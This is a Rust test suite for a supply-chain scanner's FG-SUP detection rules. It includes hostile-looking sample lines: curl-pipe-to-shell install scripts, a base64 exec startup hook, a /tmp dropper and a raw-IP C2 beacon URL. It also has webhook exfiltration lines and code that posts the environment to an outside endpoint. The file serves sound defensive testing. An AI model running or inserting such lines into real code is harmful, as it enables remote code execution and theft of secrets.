//! Supply-chain and persistence indicators (FG-SUP-*): each rule on
//! realistic positive and negative files from tests/data/indicators.

use fnguard_core::Severity;
use fnguard_scan::classify::FileClass;
use fnguard_scan::deps::Ecosystem;
use fnguard_scan::indicators::{check_file, check_package_names, Indicator, RULES};
use std::collections::HashSet;
use std::path::Path;

fn sample(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/indicators")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The indicators of a sample file placed at `path_in_package`.
fn check(sample_name: &str, path_in_package: &str, class: FileClass) -> Vec<Indicator> {
    check_file(path_in_package, &sample(sample_name), class)
}

/// (rule id, line) of every indicator, sorted.
fn summary(found: &[Indicator]) -> Vec<(&'static str, Option<usize>)> {
    let mut rows: Vec<_> = found.iter().map(|i| (i.rule.id, i.line)).collect();
    rows.sort();
    rows
}

#[test]
fn rule_metadata_is_complete_and_ids_unique() {
    let mut ids = HashSet::new();
    for rule in RULES {
        assert!(rule.lint().is_empty(), "{:?}", rule.lint());
        assert!(ids.insert(rule.id), "duplicate id {}", rule.id);
    }
    assert_eq!(RULES.len(), 12);
}

#[test]
fn pth_lines_that_import_are_startup_hooks_and_paths_are_not() {
    let found = check(
        "evil_hook.pth",
        "python/lib/python3.12/site-packages/zz_init.pth",
        FileClass::VendoredDependency,
    );
    // The hook line also runs decoded data.
    assert_eq!(
        summary(&found),
        [("FG-SUP-001", Some(2)), ("FG-SUP-006", Some(2))]
    );
    // Vendored code is where poisoning lives: not lowered.
    assert_eq!(found[0].severity, Severity::High);
    assert!(found[0].evidence.starts_with("import os, base64; exec("));

    let clean = check(
        "plain_paths.pth",
        "python/lib/python3.12/site-packages/vendor.pth",
        FileClass::VendoredDependency,
    );
    assert!(clean.is_empty(), "{clean:?}");
}

#[test]
fn setuptools_distutils_hook_is_only_information() {
    let line = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    let found = check_file(
        "python/distutils-precedence.pth",
        line,
        FileClass::VendoredDependency,
    );
    assert_eq!(summary(&found), [("FG-SUP-001", Some(1))]);
    assert_eq!(found[0].severity, Severity::Info);
}

#[test]
fn sitecustomize_anywhere_is_a_startup_hook() {
    for (path, class) in [
        ("sitecustomize.py", FileClass::FirstParty),
        (
            "python/lib/python3.12/site-packages/usercustomize.py",
            FileClass::VendoredDependency,
        ),
        ("layer.zip!/python/sitecustomize.pyc", FileClass::Binary),
    ] {
        let found = check("sitecustomize.py", path, class);
        assert_eq!(summary(&found), [("FG-SUP-001", None)], "{path}");
        assert_eq!(found[0].severity, Severity::High, "{path}");
    }
    // In a test tree it is seldom on the path: one level lower.
    let found = check(
        "sitecustomize.py",
        "tests/sitecustomize.py",
        FileClass::TestOrDoc,
    );
    assert_eq!(found[0].severity, Severity::Medium);
    let found = check(
        "sitecustomize.py",
        "src/my_sitecustomize.py",
        FileClass::FirstParty,
    );
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn npm_install_hooks_are_reported_and_fetching_ones_are_high() {
    let found = check(
        "postinstall_fetch.package.json",
        "nodejs/node_modules/colour-utilz/package.json",
        FileClass::VendoredDependency,
    );
    assert_eq!(summary(&found), [("FG-SUP-003", Some(7))]);
    assert_eq!(found[0].column, Some(5));
    assert_eq!(found[0].severity, Severity::High);
    assert!(
        found[0].evidence.contains("curl -s"),
        "{}",
        found[0].evidence
    );

    let found = check(
        "native_build.package.json",
        "node_modules/fast-hasher/package.json",
        FileClass::VendoredDependency,
    );
    assert_eq!(summary(&found), [("FG-SUP-002", Some(6))]);
    assert_eq!(found[0].severity, Severity::Low);

    // A fixture's manifest is never installed: one level lower.
    let found = check(
        "postinstall_fetch.package.json",
        "node_modules/colour-utilz/test/fixtures/package.json",
        FileClass::TestOrDoc,
    );
    assert_eq!(summary(&found), [("FG-SUP-003", Some(7))]);
    assert_eq!(found[0].severity, Severity::Medium);
}

#[test]
fn npm_scripts_that_do_not_run_at_install_are_not_reported() {
    let found = check(
        "root_scripts.package.json",
        "package.json",
        FileClass::RuntimeConfig,
    );
    assert!(found.is_empty(), "{found:?}");
    // npm refuses a manifest it cannot parse, so its scripts never run.
    let broken = br#"{ "scripts": { "postinstall": "curl x | sh" "#;
    assert!(check_file(
        "node_modules/x/package.json",
        broken,
        FileClass::VendoredDependency
    )
    .is_empty());
    // A script that is not a string is not a command.
    let odd = br#"{ "scripts": { "postinstall": ["curl x | sh"] } }"#;
    assert!(check_file(
        "node_modules/x/package.json",
        odd,
        FileClass::VendoredDependency
    )
    .is_empty());
}

#[test]
fn files_directly_in_a_layer_extensions_folder_are_extensions() {
    for path in [
        "extensions/telemetry-agent",
        "./extensions/telemetry-agent",
        "layers/monitoring.zip!/extensions/telemetry-agent",
    ] {
        let found = check_file(path, b"\x7fELF\x02\x01\x01\0", FileClass::Binary);
        assert_eq!(summary(&found), [("FG-SUP-004", None)], "{path}");
        assert_eq!(found[0].severity, Severity::Medium);
    }
    for path in [
        "extensions/telemetry-agent-lib/libagent.so",
        "node_modules/vscode-ext/extensions/index.js",
        "extensions/",
        "extensions",
    ] {
        let found = check_file(path, b"\x7fELF\x02\x01\x01\0", FileClass::Binary);
        assert!(found.is_empty(), "{path}: {found:?}");
    }
}

#[test]
fn exec_wrappers_that_do_something_first_are_reported() {
    let found = check("wrapper.sh", "wrapper.sh", FileClass::FirstParty);
    assert_eq!(summary(&found), [("FG-SUP-005", Some(5))]);
    assert_eq!(found[0].evidence, "exec \"$@\"");

    // A bare pass-through changes nothing.
    let found = check("passthrough.sh", "bin/entry.sh", FileClass::FirstParty);
    assert!(found.is_empty(), "{found:?}");
    // A launcher runs its own program with the arguments: not a wrapper of
    // the command it is given.
    let found = check(
        "launcher_shim.sh",
        "node_modules/cli-tool/shims/cli",
        FileClass::VendoredDependency,
    );
    assert!(found.is_empty(), "{found:?}");
    let with_env = b"#!/bin/sh\nexport LD_PRELOAD=/opt/lib/hook.so\nexec env -u AWS_LAMBDA_EXEC_WRAPPER TZ=UTC \"$@\"\n";
    let found = check_file("wrap", with_env, FileClass::FirstParty);
    assert!(
        summary(&found).contains(&("FG-SUP-005", Some(3))),
        "{found:?}"
    );

    // Naming the variable, in code or config, points at a wrapper.
    let config = b"Environment:\n  Variables:\n    AWS_LAMBDA_EXEC_WRAPPER: /opt/otel-instrument\n";
    let found = check_file("template-copy.yaml", config, FileClass::RuntimeConfig);
    assert_eq!(summary(&found), [("FG-SUP-005", Some(3))]);
    assert_eq!(found[0].column, Some(5));
}

#[test]
fn decoded_data_passed_to_exec_or_eval_is_reported() {
    let found = check("loader.py", "handler/loader.py", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [
            ("FG-SUP-006", Some(4)),
            ("FG-SUP-006", Some(5)),
            ("FG-SUP-006", Some(6))
        ]
    );
    let found = check(
        "loader.js",
        "node_modules/pkg/lib/loader.js",
        FileClass::VendoredDependency,
    );
    assert_eq!(
        summary(&found),
        [("FG-SUP-006", Some(2)), ("FG-SUP-006", Some(3))]
    );
    assert_eq!(
        found
            .iter()
            .find(|i| i.line == Some(3))
            .and_then(|i| i.column),
        Some(13)
    );

    for (name, path) in [
        ("benign_decode.py", "app.py"),
        ("benign_buffer.js", "index.js"),
    ] {
        let found = check(name, path, FileClass::FirstParty);
        assert!(found.is_empty(), "{name}: {found:?}");
    }
}

#[test]
fn credential_sources_are_reported_except_inside_aws_sdks() {
    let found = check("steal.py", "utils/env.py", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [
            ("FG-SUP-007", Some(2)),
            ("FG-SUP-007", Some(4)),
            ("FG-SUP-007", Some(5))
        ]
    );
    // botocore reads the credentials file by design; /proc reads still count.
    let found = check(
        "steal.py",
        "python/botocore/credentials.py",
        FileClass::VendoredDependency,
    );
    assert_eq!(
        summary(&found),
        [("FG-SUP-007", Some(2)), ("FG-SUP-007", Some(5))]
    );

    let readme = b"Next, set up credentials (in e.g. ``~/.aws/credentials``):\n";
    for sdk in [
        "python/botocore-1.35.0.dist-info/METADATA",
        "nodejs/node_modules/@aws-sdk/credential-provider-ini/package.json",
    ] {
        assert!(
            check_file(sdk, readme, FileClass::TestOrDoc).is_empty(),
            "{sdk}"
        );
    }
    let found = check_file(
        "python/mylib-1.0.dist-info/METADATA",
        readme,
        FileClass::TestOrDoc,
    );
    assert_eq!(summary(&found), [("FG-SUP-007", Some(1))]);
    assert_eq!(found[0].severity, Severity::Medium);

    let found = check("proc_status.py", "utils/mem.py", FileClass::FirstParty);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn writes_to_runtime_task_and_layer_folders_are_reported_reads_are_not() {
    let found = check("tamper.py", "app.py", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [("FG-SUP-008", Some(2)), ("FG-SUP-008", Some(4))]
    );
    let found = check("tamper.sh", "scripts/tamper.sh", FileClass::FirstParty);
    let rows = summary(&found);
    assert!(rows.contains(&("FG-SUP-008", Some(2))), "{rows:?}");
    assert!(rows.contains(&("FG-SUP-008", Some(3))), "{rows:?}");
    let redirect = found
        .iter()
        .find(|i| i.rule.id == "FG-SUP-008" && i.line == Some(2))
        .map(|i| i.column);
    assert_eq!(
        redirect,
        Some(Some(28)),
        "the column of `>`, not of the space before"
    );

    let found = check("reads_layers.py", "app.py", FileClass::FirstParty);
    assert!(found.is_empty(), "{found:?}");
    // Markup is not a redirect.
    let html = b"<li><code>/opt/npm/my-package</code></li>\n<p>x =>/opt/y</p>\n";
    let found = check_file("docs/spec.html", html, FileClass::TestOrDoc);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn executables_dropped_in_tmp_are_reported_scratch_files_are_not() {
    let found = check("dropper.sh", "bootstrap", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [("FG-SUP-009", Some(3)), ("FG-SUP-009", Some(4))]
    );
    let found = check("dropper.py", "app.py", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [("FG-SUP-009", Some(3)), ("FG-SUP-009", Some(4))]
    );

    let found = check("tmp_scratch.py", "app.py", FileClass::FirstParty);
    assert!(found.is_empty(), "{found:?}");

    // Over several lines: the /tmp path is held in a variable.
    let found = check("dropper_vars.py", "app.py", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [("FG-SUP-009", Some(7)), ("FG-SUP-009", Some(8))]
    );
    let found = check("dropper_vars.sh", "bootstrap", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [("FG-SUP-009", Some(4)), ("FG-SUP-009", Some(5))]
    );
    assert_eq!(found[1].evidence, "\"$BIN\" --daemon &");
    // A chmod of a name that holds no /tmp path is not followed.
    let found = check("chmod_own_tool.py", "app.py", FileClass::FirstParty);
    assert!(found.is_empty(), "{found:?}");
    // A /tmp path at the start of a line is a command only in a shell
    // script; in bytecode or prose it is data.
    let bytecode = b"\xe3\x00\x00\n/tmp/xxx 1)rH\n/tmp/yyz 2r\n";
    let found = check_file(
        "__pycache__/imaplib.cpython-311.pyc",
        bytecode,
        FileClass::Binary,
    );
    assert!(found.is_empty(), "{found:?}");
    let found = check_file(
        "run.sh",
        b"cd /work\n  /tmp/stage2 &\n",
        FileClass::FirstParty,
    );
    assert_eq!(summary(&found), [("FG-SUP-009", Some(2))]);
    assert_eq!(found[0].column, Some(3));
}

#[test]
fn exfiltration_endpoints_are_reported_library_templates_are_not() {
    let found = check("exfil.js", "index.js", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [
            ("FG-SUP-010", Some(2)),
            ("FG-SUP-010", Some(3)),
            ("FG-SUP-010", Some(4)),
            ("FG-SUP-010", Some(5)),
            ("FG-SUP-010", Some(6))
        ]
    );
    // The webhook and bot tokens are credentials: reports keep 4 characters.
    let discord = &found[1].evidence;
    assert!(
        discord.contains("/api/webhooks/1187234567890123456/aBcD…"),
        "{discord}"
    );
    assert!(!discord.contains("aBcDeF"), "{discord}");
    let telegram = &found[2].evidence;
    assert!(telegram.contains("/bot7012345678:AAHc…"), "{telegram}");
    assert!(!telegram.contains("AAHc9"), "{telegram}");
    // In docs and tests one level lower.
    let found = check("exfil.js", "docs/example.js", FileClass::TestOrDoc);
    assert!(found.iter().all(|i| i.severity == Severity::Medium));

    // A comment that cites a paste does not send anything: one level lower.
    let comment = b"  // causes a crash (https://pastebin.com/N21QzeQA) when debugging\n";
    let found = check_file(
        "node_modules/lib/replace.js",
        comment,
        FileClass::VendoredDependency,
    );
    assert_eq!(summary(&found), [("FG-SUP-010", Some(1))]);
    assert_eq!(found[0].severity, Severity::Medium);
    let doc_line = b" * (defaulting to ~/.aws/credentials or defined by the\n";
    let found = check_file("lib/creds.js", doc_line, FileClass::FirstParty);
    assert_eq!(found[0].severity, Severity::Medium);
    let python = b"token = load()  # then POST to https://webhook.site/x\n";
    let found = check_file("app.py", python, FileClass::FirstParty);
    assert_eq!(
        found[0].severity,
        Severity::High,
        "a comment after code is not detected"
    );

    let found = check(
        "webhook_clients.py",
        "python/chatlib/endpoints.py",
        FileClass::VendoredDependency,
    );
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn urls_with_public_ipv4_hosts_are_reported_special_ranges_are_not() {
    let found = check("raw_ip.py", "app.py", FileClass::FirstParty);
    assert_eq!(
        summary(&found),
        [("FG-SUP-011", Some(1)), ("FG-SUP-011", Some(2))]
    );
    assert_eq!(found[0].evidence, "C2 = \"http://45.133.1.20:8080/beacon\"");
    let found = check("private_ip.py", "app.py", FileClass::FirstParty);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn evidence_in_a_minified_line_is_cut_around_the_match() {
    let mut bundle = "var a=1;".repeat(500);
    bundle.push_str("fetch('https://webhook.site/abc');");
    bundle.push_str(&"var b=2;".repeat(500));
    let found = check_file("dist/index.js", bundle.as_bytes(), FileClass::FirstParty);
    assert_eq!(summary(&found), [("FG-SUP-010", Some(1))]);
    assert_eq!(found[0].column, Some(4016));
    assert!(found[0].evidence.contains("webhook.site"));
    assert!(
        found[0].evidence.chars().count() <= 100,
        "{}",
        found[0].evidence
    );
}

#[test]
fn bad_bytes_never_panic() {
    let inputs: [&[u8]; 6] = [
        b"",
        b"\xff\xfe\x00import os\n",
        b"exec(base64.b64decode(\xff\xff",
        b"http://1.2.3",
        b"{\"scripts\":",
        b"\n\n\nimport \xc3",
    ];
    for bytes in inputs {
        for path in ["a.pth", "package.json", "x.sh", "extensions/x", "", "!/"] {
            let _ = check_file(path, bytes, FileClass::Binary);
        }
    }
    let found = check_file(
        "a.pth",
        b"\xff\nimport \xc3(\n",
        FileClass::VendoredDependency,
    );
    assert_eq!(summary(&found), [("FG-SUP-001", Some(2))]);
}

#[test]
fn typosquats_are_one_edit_from_a_popular_name() {
    let found = check_package_names(
        Ecosystem::PyPI,
        [
            "reqeusts",
            "requests",
            "Requests",
            "python_dateutil",
            "boto4",
            "urlib3",
            "my-internal-lib",
        ],
    );
    let rows: Vec<_> = found
        .iter()
        .map(|t| (t.name.as_str(), t.resembles.as_str(), t.rule.id))
        .collect();
    assert_eq!(
        rows,
        [
            ("reqeusts", "requests", "FG-SUP-012"),
            ("boto4", "boto3", "FG-SUP-012"),
            ("urlib3", "urllib3", "FG-SUP-012"),
        ]
    );

    let found = check_package_names(
        Ecosystem::Npm,
        [
            "crossenv",
            "cross-env",
            "lodahs",
            "expresss",
            "JSONStream",
            "jsonstream",
            "ms",
            "mss",
        ],
    );
    let rows: Vec<_> = found
        .iter()
        .map(|t| (t.name.as_str(), t.resembles.as_str()))
        .collect();
    assert_eq!(
        rows,
        [
            ("crossenv", "cross-env"),
            ("lodahs", "lodash"),
            ("expresss", "express")
        ]
    );
}

#[test]
fn established_neighbours_and_other_registries_are_not_typosquats() {
    // Both are popular projects in their own right, one edit from a top name
    // (`mypy-boto3-ecs`, `cookie`): listed in legitimate-pairs.txt.
    assert!(check_package_names(Ecosystem::PyPI, ["mypy-boto3-eks", "mypy_boto3_eks"]).is_empty());
    assert!(check_package_names(Ecosystem::Npm, ["cookies"]).is_empty());
    // Only the owner of a scope publishes in it.
    assert!(
        check_package_names(Ecosystem::Npm, ["@aws-sdk/client-sms", "@storybook/preact"])
            .is_empty()
    );
    let other_scope = check_package_names(Ecosystem::Npm, ["@fakerjs/faker", "@nesjs/core"]);
    let rows: Vec<_> = other_scope.iter().map(|t| t.resembles.as_str()).collect();
    assert_eq!(rows, ["@faker-js/faker", "@nestjs/core"]);
    // No list for crates.io: nothing is claimed.
    assert!(check_package_names(Ecosystem::CratesIo, ["serd", "tokoi"]).is_empty());
    // A name given twice is reported once.
    assert_eq!(
        check_package_names(Ecosystem::Npm, ["lodahs", "lodahs"]).len(),
        1
    );
}

#[test]
fn every_truncation_and_byte_flip_of_every_sample_is_checked_without_panic() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/indicators");
    let mut samples: Vec<_> = std::fs::read_dir(&dir)
        .expect("sample folder")
        .map(|entry| entry.expect("sample entry").path())
        .collect();
    samples.sort();
    assert!(samples.len() >= 25);
    for sample in samples {
        let bytes = std::fs::read(&sample).expect("sample");
        // Its own name (`x.package.json` is read as a manifest, `.pth` and
        // `.sh` by their readers) and a .pth, which reads any text.
        let own_name = sample
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or_default()
            .replace(".package.json", "/package.json");
        let paths = [own_name.as_str(), "a.pth"];
        for cut in 0..=bytes.len() {
            for path in paths {
                let _ = check_file(path, &bytes[..cut], FileClass::FirstParty);
            }
        }
        for at in 0..bytes.len() {
            let mut damaged = bytes.clone();
            // 0xff is never valid UTF-8: decoding, positions and evidence
            // must cope with it anywhere, inside a match included.
            damaged[at] = 0xff;
            for path in paths {
                for indicator in check_file(path, &damaged, FileClass::Binary) {
                    assert!(indicator.evidence.chars().count() <= 161);
                }
            }
        }
    }
}

#[test]
fn a_vendored_library_calling_a_cloud_function_endpoint_is_reported() {
    let code = b"import requests\n\ndef _sync(env):\n    requests.post(\"https://1077739472743245.cn-hangzhou.fc.aliyuncs.com/2016-08-15/proxy/svc/fn/\", data=env)\n    requests.post('https://1077739472743245.cn-hangzhou.fc.aliyuncs.com/again')\n    # docs: https://docs.aws.amazon.com/lambda/ and https://my-demo.vercel.app/\n";
    let vendored = check_file(
        "python/lib/python3.12/site-packages/telemetry/__init__.py",
        code,
        FileClass::VendoredDependency,
    );
    let endpoints: Vec<_> = vendored
        .iter()
        .filter(|i| i.rule.id == "FG-SUP-010")
        .collect();
    assert_eq!(endpoints.len(), 1, "one per host: {vendored:#?}");
    assert_eq!(endpoints[0].line, Some(4));
    assert_eq!(endpoints[0].severity, fnguard_core::Severity::Medium);
    assert!(
        endpoints[0].evidence.contains("tenant 1077739472743245"),
        "{}",
        endpoints[0].evidence
    );
    // The function's own code calls its endpoints legitimately.
    let own = check_file("app.py", code, FileClass::FirstParty);
    assert!(own.iter().all(|i| i.rule.id != "FG-SUP-010"), "{own:#?}");
}
